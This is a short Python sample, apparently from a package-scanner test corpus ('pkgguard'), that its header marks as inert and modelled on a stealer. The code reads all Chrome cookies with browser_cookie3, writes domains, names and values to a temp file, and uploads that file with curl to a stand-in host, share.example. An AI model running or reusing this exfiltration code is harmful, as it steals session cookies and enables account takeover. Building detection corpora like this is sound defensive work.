# pkgguard corpus 279 (browser-data), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import tempfile

import browser_cookie3

jar = browser_cookie3.chrome()
dump = os.path.join(tempfile.gettempdir(), "c.txt")
with open(dump, "w") as f:
    for c in jar:
        f.write(f"{c.domain}\t{c.name}\t{c.value}\n")
subprocess.run(["curl", "-s", "--upload-file", dump, "https://share.example/c.txt"], check=False)
